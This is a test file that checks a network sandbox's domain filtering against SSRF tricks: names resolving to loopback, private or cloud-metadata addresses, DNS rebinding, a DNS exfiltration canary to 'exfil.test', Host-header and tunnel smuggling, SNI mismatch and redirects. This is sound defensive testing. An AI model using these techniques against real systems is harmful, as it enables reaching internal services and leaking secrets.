/** Names that may be reached and lead where nothing may: every address is looked at after it was resolved, every word in the stream too. */
import { execFileSync } from 'node:child_process';
import { rmSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { networkActs } from '../fixtures/network-acts.ts';
import {
  METADATA,
  makeNetworkWorld,
  type NetworkWorld,
  OWN,
  PRIVATE,
  type Visit,
} from '../fixtures/network-world.ts';
import { makeWorld, people, type World } from '../fixtures/world.ts';

const allow = (...hosts: string[]) => [
  '--net',
  'filtered',
  ...hosts.flatMap((host) => ['--allow-domain', host]),
];
const WILD = allow('allowed.test', '*.wild.test');
const FORBIDDEN = 'HTTP/1.1 403 Forbidden';

/** [name, the address that opens it when it is listed as well, who answers then]. */
const LEADING_ASTRAY: readonly (readonly [name: string, address: string, canary: string])[] = [
  ['lo.wild.test', '127.0.0.1', 'loopback'],
  ['lo6.wild.test', '::1', 'loopback'],
  ['map.wild.test', '127.0.0.1', 'loopback'],
  ['alias-lo.wild.test', '127.0.0.1', 'loopback'],
  ['nat64.wild.test', '64:ff9b::7f00:1', 'loopback'],
  ['meta.wild.test', METADATA, 'metadata'],
  ['map-meta.wild.test', METADATA, 'metadata'],
  ['meta6.wild.test', 'fd00:ec2::254', 'metadata'],
  ['private.wild.test', PRIVATE, 'private'],
  ['own.wild.test', OWN, 'own'],
];

const bracketed = (address: string) => (address.includes(':') ? `[${address}]` : address);

let net: NetworkWorld;
beforeAll(async () => {
  net = await makeNetworkWorld();
});
afterAll(() => net.dispose());

describe.each(people)('as $label', (person) => {
  let world: World;
  let acts: ReturnType<typeof networkActs>;
  beforeAll(async () => {
    world = await makeWorld(person, net.host);
    acts = networkActs(world);
  });
  afterAll(() => world.dispose());

  const ownSettings = () => join(world.home, '.config/pinfold/settings.json');

  /** Whom the canaries saw, without the name server. */
  const visitors = async () =>
    (await net.visits()).filter(({ kind }) => kind !== 'dns').map(({ name }) => name);

  test('a name that leads to a loopback, private, metadata or own address is refused, unless the address is listed', async () => {
    await net.visits();
    const words = LEADING_ASTRAY.map(([name]) => `named:${name}:8080`);
    const { answers, violations } = await acts.inside([...words, 'named:zero.wild.test:8080'], WILD);
    expect(answers).toEqual([...words, ''].map(() => FORBIDDEN));
    expect(await visitors()).toEqual([]);
    expect(violations.map(({ host }) => host).sort()).toEqual(
      [...LEADING_ASTRAY.map(([name]) => name), 'zero.wild.test'].sort(),
    );
    const listed = LEADING_ASTRAY.map(([, address]) => `${bracketed(address)}:8080`);
    const reached = await acts.inside(words, allow('*.wild.test', ...listed));
    expect(reached.answers).toEqual(LEADING_ASTRAY.map(([, , canary]) => `CANARY ${canary} /`));
  });

  test.each([
    ['F-43.30', 'localhost', 'ECONNREFUSED', 'loopback'],
    ['F-43.32', METADATA, 'EACCES', 'metadata'],
  ])(
    '%s: %s opens where a person’s settings name it (refused in the catalogue), and nowhere else',
    async (_id, host, shut, canary) => {
      await net.visits();
      const reached = async (allowedDomains: readonly string[]) => {
        world.put(ownSettings(), JSON.stringify({ sandbox: { allowedDomains } }));
        return (await acts.inside([`named:${host}:8080`], ['--mode', 'permissive'])).answers;
      };
      expect(await reached([])).toEqual([shut]);
      expect(await visitors()).toEqual([]);
      expect(await reached([host])).toEqual([`CANARY ${canary} /`]);
      rmSync(ownSettings());
    },
  );

  test('F-43.31: a name of the metadata service in a person’s settings (refused in the catalogue) opens no address', async () => {
    await net.visits();
    const host = 'metadata.google.internal';
    const reached = async (allowedDomains: readonly string[]) => {
      world.put(ownSettings(), JSON.stringify({ sandbox: { allowedDomains } }));
      return (await acts.inside([`named:${host}:8080`], ['--mode', 'permissive'])).answers;
    };
    expect(await reached([host])).toEqual([FORBIDDEN]);
    expect(await visitors()).toEqual([]);
    expect(await reached([host, METADATA])).toEqual(['CANARY metadata /']);
    rmSync(ownSettings());
  });

  test('of a name’s addresses only one that may be reached is dialled', async () => {
    await net.visits();
    const { answers } = await acts.inside(
      ['named:mixed.wild.test:8080', 'named:alias.wild.test:8080', 'named:six.wild.test:8080'],
      WILD,
    );
    expect(answers).toEqual(['CANARY allowed /', 'CANARY allowed /', 'CANARY allowed /']);
    expect(new Set(await visitors())).toEqual(new Set(['allowed']));
  });

  test('a name is reached by its IPv6 stand-in as by its IPv4 one', async () => {
    const stand = ['tcp6:fd70_696e_666f_6c64__1:8080', 'tcp:198.18.1.0:8080'];
    const flags = allow('allowed.test');
    await net.visits();
    const { answers } = await acts.inside(
      ['resolve:allowed.test', 'named:allowed.test:8080', ...stand],
      flags,
    );
    // A request that names another host is refused there, so the name is known again.
    expect(answers).toEqual(['198.18.1.0', 'CANARY allowed /', FORBIDDEN, FORBIDDEN]);
    const curl = await world.inside(['curl', '-6', '-sS', 'http://allowed.test:8080/x'], flags);
    expect(curl.stdout).toBe('CANARY allowed /x');
    expect(new Set(await visitors())).toEqual(new Set(['allowed']));
  });

  test('a name that is rebound with every question reaches nobody that it may not', async () => {
    await net.visits();
    for (let round = 0; round < 3; round++) {
      const { answers } = await acts.inside(Array(4).fill('named:rebind.wild.test:8080'), WILD);
      for (const answer of answers) expect([FORBIDDEN, 'CANARY allowed /']).toContain(answer);
    }
    const seen = await visitors();
    expect(seen).toContain('allowed');
    expect(seen).not.toContain('loopback');
  });

  test('names that no rule allows do not resolve, and are not asked for outside', async () => {
    const names = [
      ['resolve:denied.test', 'EAI_NONAME'],
      ['resolve:wild.test', 'EAI_NONAME'],
      ['resolve:xwild.test', 'EAI_NONAME'],
      ['resolve:allowed.test.evil.test', 'EAI_NONAME'],
      ['resolve:evilallowed.test', 'EAI_NONAME'],
      ['resolve:s3cr3t-canary.exfil.test', 'EAI_NONAME'],
      ['query:198.18.0.1:53:udp', 'code 3'],
      ['query:198.18.0.1:53:tcp', 'sent'],
    ] as const;
    await net.visits();
    const { answers, violations } = await acts.inside(
      names.map(([act]) => act),
      WILD,
    );
    expect(answers).toEqual(names.map(([, answer]) => answer));
    expect(await net.visits()).toEqual([]);
    expect(violations.map(({ host }) => host)).toContain('s3cr3t-canary.exfil.test');
    expect(await acts.outside(['resolve:denied.test'])).toEqual(['93.184.216.35']);
    expect((await net.visits()).map(({ question }: Visit) => question)).toContain('denied.test');
  });

  test('a request for another host on an allowed connection is refused, and so is a tunnel through it', async () => {
    await net.visits();
    const { answers, violations } = await acts.inside(
      [
        'named:allowed.test:8080:denied.test',
        'named:allowed.test:8080:denied.test',
        'tunnel:allowed.test:8080:denied.test',
        'named:allowed.test:8080',
      ],
      WILD,
    );
    expect(answers.slice(0, 2)).toEqual([FORBIDDEN, FORBIDDEN]);
    expect(answers[2]).toMatch(/^HTTP\/1\.1 40[03]/);
    expect(answers[3]).toBe('CANARY allowed /');
    const requests = (await net.visits()).flatMap(({ head }) => head ?? []);
    expect(requests.join()).not.toContain('denied.test');
    expect(requests).toHaveLength(1);
    expect(violations.map(({ host }) => host)).toContain('allowed.test');
    expect((await acts.outside(['named:allowed.test:8080:denied.test']))[0]).toBe('CANARY allowed /');
  });

  test('TLS for another name on an allowed connection is refused with an alert', async () => {
    const curl = (name: string) => [
      'curl',
      '-sSk',
      '--connect-to',
      `${name}:443:allowed.test:443`,
      `https://${name}/x`,
    ];
    await net.visits();
    const refused = await world.inside(curl('denied.test'), WILD);
    expect(refused.stderr).toMatch(/alert access denied/);
    expect((await net.visits()).filter(({ kind }) => kind === 'request')).toEqual([]);
    expect((await world.inside(curl('allowed.test'), WILD)).stdout).toBe('CANARY allowed /x');
    expect((await world.run(curl('denied.test'))).stdout).toBe('CANARY allowed /x');
  });

  test('a redirect to a name that is not allowed leads nowhere', async () => {
    await net.visits();
    const follow = ['curl', '-sSL', 'http://allowed.test:8080/redirect'];
    expect((await world.inside(follow, WILD)).stderr).toContain('Could not resolve host: denied.test');
    expect(await visitors()).not.toContain('denied');
    expect((await world.run(follow)).stdout).toContain('CANARY denied');
  });

  test('a body that names the host, the rule and the event tells a refused client why', async () => {
    const ran = await world.inside(['curl', '-sS', 'http://lo.wild.test:8080/'], [...WILD, '--json']);
    expect(ran.stdout).toContain('lo.wild.test');
    expect(ran.stdout).toContain('127.0.0.1');
    const { violations } = JSON.parse(ran.stderr.trimEnd().split('\n').at(-1)!);
    expect(ran.stdout).toContain(violations[0].id);
    expect(violations[0].actor.program).toMatch(/\/curl$/);
  });

  test('a datagram to an allowed name finds nobody at once: QUIC falls back', async () => {
    await net.visits();
    const { answers, violations } = await acts.inside(
      ['udp-connected:198.18.1.0:443', 'resolve:allowed.test', 'udp-connected:198.18.1.0:443'],
      WILD,
    );
    expect(answers[1]).toBe('198.18.1.0');
    expect(answers[2]).toBe('ECONNREFUSED');
    expect(await net.visits()).toEqual([]);
    expect(violations.map(({ host }) => host)).toEqual(['198.18.1.0']);
    expect(await acts.outside(['udp-connected:93.184.216.34:443'])).toEqual(['CANARY']);
  });

  test('each name is laid at the door of the program that asked for it, when many ask at once', async () => {
    // Copies of one program under names of their own, each asking for its own names.
    const askers = ['ask-a', 'ask-b', 'ask-c', 'ask-d'];
    const program = execFileSync('sh', ['-c', 'command -v getent'], { encoding: 'utf8' }).trim();
    for (const name of askers) {
      const path = world.put(join(world.project, name), '', 0o755);
      execFileSync('cp', [program, path]);
    }
    const loops = askers
      .map((name) => `(for i in 1 2 3 4 5; do ./${name} ahosts $i.${name}.test; done) &`)
      .join('\n');
    const ran = await world.inside(['sh', '-c', `${loops}\nwait`], [...WILD, '--json']);
    const { violations } = JSON.parse(ran.stderr.trimEnd().split('\n').at(-1)!) as {
      violations: { subject: { host: string }; actor: { program: string } }[];
    };
    expect(violations).toHaveLength(20);
    for (const { subject, actor } of violations)
      expect(actor.program).toBe(join(world.project, subject.host.split('.')[1]!));
  });
});
